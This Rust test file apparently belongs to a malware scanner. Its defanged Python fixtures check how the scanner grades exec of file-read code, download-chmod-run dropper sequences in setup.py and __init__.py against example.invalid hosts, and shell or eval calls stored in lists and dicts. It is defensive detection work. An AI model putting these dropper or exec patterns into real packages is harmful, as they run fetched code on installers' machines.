//! Data and callables that reach a call through more than one statement: a file opened by
//! `with … as f` and read later, a file downloaded, made executable and run, callables put
//! into a list or dict by `append`/`update`/item assignment and called from it. Each shape is
//! graded as its one-statement spelling is. Fixtures are written here, defanged (commands only
//! `echo`, hosts under `example.invalid`), and scanned; nothing is executed. Benign look-alikes
//! stay below medium.

use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};

/// Scan `src` written as `name` (a path under a fresh folder).
fn scan(name: &str, src: &str) -> FileReport {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), name, src);
    scan_file(&dir.path().join(name), BudgetLimits::default())
}

fn write(root: &Path, name: &str, src: &str) {
    let p = root.join(name);
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(&p, src).expect("write");
}

/// The worst severity of `rule` on the file itself (not in decoded members).
fn worst(r: &FileReport, rule: &str) -> Option<Severity> {
    r.findings
        .iter()
        .filter(|f| f.rule.id == rule && f.location.members.is_empty())
        .map(|f| f.severity)
        .max()
}

fn summary(r: &FileReport) -> Vec<String> {
    r.findings
        .iter()
        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.evidence))
        .collect()
}

/// Every (file, source, rule, severity) case: the worst finding of `rule` must be `severity`.
fn check(cases: &[(&str, &str, &str, Option<Severity>)]) {
    let mut failures = Vec::new();
    for (name, src, rule, want) in cases {
        let r = scan(name, src);
        let got = worst(&r, rule);
        if got != *want {
            failures.push(format!(
                "{name}: want {rule} {want:?}, got {got:?}\n{src}\n{:#?}",
                summary(&r)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Every (file, source) case: nothing at medium or above.
fn benign(cases: &[(&str, &str)]) {
    let mut failures = Vec::new();
    for (name, src) in cases {
        let r = scan(name, src);
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            failures.push(format!("{name}:\n{src}\n{:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// `with open(P) as f: exec(f.read())` is `exec(open(P).read())`, also when the content is
/// kept in a variable first, compiled, or read through `pathlib`.
#[test]
fn code_read_through_a_with_block_is_judged_like_a_direct_read() {
    use Severity::*;
    const RULE: &str = "python-exec-computed";
    check(&[
        // The one-statement spelling, graded as before.
        ("demo/__init__.py", "exec(open('/tmp/x.dat').read())\n", RULE, Some(High)),
        ("demo/__init__.py", "with open('/tmp/x.dat') as f:\n    exec(f.read())\n", RULE, Some(High)),
        ("demo/__init__.py", "with open('/tmp/x.dat') as f:\n    code = f.read()\nexec(code)\n", RULE, Some(High)),
        ("demo/__init__.py", "with open('/tmp/x.dat') as f:\n    exec(compile(f.read(), 'x', 'exec'))\n", RULE, Some(High)),
        ("demo/__init__.py", "with open('/tmp/x.dat', 'rb') as f:\n    code = f.read().decode()\nexec(code)\n", RULE, Some(High)),
        ("demo/__init__.py", "f = open('/tmp/x.dat')\nexec(f.read())\n", RULE, Some(High)),
        ("demo/__init__.py", "code = open('/tmp/x.dat').read()\nexec(code)\n", RULE, Some(High)),
        ("demo/__init__.py", "import pathlib\ncode = pathlib.Path('/tmp/x.dat').read_text()\nexec(code)\n", RULE, Some(High)),
        ("setup.py", "import pathlib\np = pathlib.Path('/tmp/x.dat')\nexec(p.read_text())\n", RULE, Some(High)),
        ("setup.py", "p = '/tmp/x.dat'\nwith open(p) as f:\n    src = f.read()\nexec(src)\n", RULE, Some(High)),
        ("setup.py", "import io\nwith io.open('helpers.dat', encoding='utf-8') as f, open('y') as g:\n    exec(f.read())\n", RULE, Some(High)),
        // A file named at run time: as `exec(open(sys.argv[1]).read())`.
        ("setup.py", "import sys\nwith open(sys.argv[1]) as f:\n    exec(f.read())\n", RULE, Some(Medium)),
        // Inside a function, as the direct read grades it.
        ("demo/tools.py", "def load():\n    with open('/tmp/x.dat') as f:\n        exec(f.read())\n", RULE, Some(Medium)),
        ("demo/tools.py", "def load(p):\n    with open(p) as f:\n        exec(f.read())\n", RULE, None),
        // A package's own module, as `exec(open('demo/_version.py').read())`.
        ("setup.py", "import os\nwith open(os.path.join('demo', '_version.py')) as f:\n    exec(f.read())\n", RULE, None),
        ("setup.py", "vf = 'demo/version.py'\nwith open(vf) as f:\n    exec(compile(f.read(), vf, 'exec'))\n", RULE, None),
        // Rebound to something else before the exec: not the file any more.
        ("demo/__init__.py", "with open('/tmp/x.dat') as f:\n    code = f.read()\ncode = 'x = 1'\nexec(code)\n", RULE, None),
    ]);
    benign(&[
        ("setup.py", "from setuptools import setup\nwith open('README.md') as f:\n    long_description = f.read()\nsetup(name='demo', long_description=long_description)\n"),
        ("setup.py", "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nabout = {}\nwith open(os.path.join(here, 'demo', '__version__.py')) as f:\n    exec(f.read(), about)\nsetup(name='demo', version=about['__version__'])\n"),
        ("demo/__init__.py", "import json\nwith open('/etc/demo.json') as f:\n    CONFIG = json.loads(f.read())\n"),
    ]);
}

/// A file downloaded, made executable and run, over several statements: each step alone is
/// at most medium (the network call); running the file the same code downloaded is a dropper.
#[test]
fn running_a_file_the_code_downloaded_is_a_dropper() {
    use Severity::*;
    const RULE: &str = "python-exec-computed";
    check(&[
        ("setup.py", "import os, subprocess, urllib.request\np = '/tmp/tool.bin'\nurllib.request.urlretrieve('https://example.invalid/tool', p)\nos.chmod(p, 0o755)\nsubprocess.call([p])\n", RULE, Some(Critical)),
        ("demo/__init__.py", "import os, tempfile, requests, subprocess\nr = requests.get('https://example.invalid/tool')\np = os.path.join(tempfile.gettempdir(), 'tool')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nos.chmod(p, 0o755)\nsubprocess.Popen(p)\n", RULE, Some(Critical)),
        ("setup.py", "import os, urllib.request\nurllib.request.urlretrieve('https://example.invalid/t.sh', '/tmp/t.sh')\nos.system('sh /tmp/t.sh')\n", RULE, Some(Critical)),
        ("setup.py", "import subprocess, sys, urllib.request\nresp = urllib.request.urlopen('https://example.invalid/x.py')\nwith open('x.py', 'wb') as out:\n    for chunk in iter(lambda: resp.read(8192), b''):\n        out.write(chunk)\nsubprocess.check_call([sys.executable, 'x.py'])\n", RULE, Some(Critical)),
        ("setup.py", "import os, subprocess, requests\nr = requests.get('https://example.invalid/t', stream=True)\nwith open('t', 'wb') as out:\n    for chunk in r.iter_content(8192):\n        out.write(chunk)\nsubprocess.check_call(['chmod', '+x', 't'])\nos.system('./t --quiet')\n", RULE, Some(Critical)),
        ("setup.py", "import subprocess, urllib.request, pathlib\np = pathlib.Path('/tmp/tool')\np.write_bytes(urllib.request.urlopen('https://example.invalid/t').read())\nsubprocess.run([str(p)])\n", RULE, Some(Critical)),
        ("setup.py", "import shutil, subprocess, urllib.request\nr = urllib.request.urlopen('https://example.invalid/t')\nwith open('/tmp/t', 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.Popen('/tmp/t ' + '--quiet', shell=True)\n", RULE, Some(Critical)),
        // In a function the module calls at import: high.
        ("demo/__init__.py", "import os, subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://example.invalid/tool', '/tmp/tool')\n    os.chmod('/tmp/tool', 0o755)\n    subprocess.call(['/tmp/tool'])\nfetch()\n", RULE, Some(High)),
        // In a function nothing calls at load: a tool fetching a binary on request.
        ("demo/tools.py", "import os, subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://example.invalid/tool', '/tmp/tool')\n    os.chmod('/tmp/tool', 0o755)\n    subprocess.call(['/tmp/tool'])\n", RULE, Some(Low)),
        // Unpacking a downloaded archive runs `tar`, not the download.
        ("setup.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/src.tar.gz', 'src.tar.gz')\nsubprocess.check_call(['tar', 'xzf', 'src.tar.gz'])\n", RULE, None),
        // A download in one function is not the file another function runs.
        ("demo/tools.py", "import subprocess, urllib.request\ndef get(url, p):\n    urllib.request.urlretrieve(url, p)\ndef run(p):\n    subprocess.call([p])\nrun('x')\n", RULE, None),
    ]);
    benign(&[
        ("setup.py", "import subprocess\nfrom setuptools import setup\nv = subprocess.call(['git', 'describe'])\nout = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(name='demo')\n"),
        ("setup.py", "import os, subprocess\nos.chmod('scripts/run.sh', 0o755)\nsubprocess.check_call(['scripts/run.sh'])\n"),
    ]);
}

/// Callables put into a list or dict by a method call or an item assignment, then called
/// from it, resolve as the callable itself.
#[test]
fn callables_put_into_containers_resolve_when_called_from_them() {
    use Severity::*;
    const SHELL: &str = "python-shell-command";
    check(&[
        ("demo/__init__.py", "import os\nL = []\nL.append(os.system)\nL[0]('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nL = [print]\nL.append(os.system)\nL[-1]('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nL = list()\nL.extend([print, os.system])\nL[1]('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nL = [print]\nL.append(os.system)\nL.insert(0, len)\nL[2]('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nD = {}\nD.update(x=os.system)\nD['x']('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nD = dict()\nD.update({'x': os.system})\nD.get('x')('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import os\nD = {}\nD.setdefault('x', os.system)\nD['x']('echo airlock-test')\n", SHELL, Some(High)),
        ("demo/__init__.py", "import base64\nD = {}\nD['k'] = eval\nD['k'](base64.b64decode('cHJpbnQoMSk='))\n", "python-exec-decoded", Some(Critical)),
        // In a function, with a container of its own: graded as a call in a function.
        ("demo/tools.py", "import os\ndef go():\n    L = []\n    L.append(os.system)\n    L[0]('echo airlock-test')\n", SHELL, Some(Low)),
        // The item called is not the one that runs a command.
        ("demo/__init__.py", "import os\nL = [os.system]\nL.insert(0, print)\nL[0]('echo airlock-test')\n", SHELL, None),
        ("demo/__init__.py", "import os\nD = {'x': print}\nD.setdefault('x', os.system)\nD['x']('echo airlock-test')\n", SHELL, None),
    ]);
    benign(&[
        ("demo/__init__.py", "import os, json\nHANDLERS = {}\nHANDLERS.update(json=json.dumps)\nHANDLERS['json']({})\nL = []\nL.append(len)\nL[0]('x')\nPATHS = []\nPATHS.append(os.path.dirname(__file__))\n"),
    ]);
}
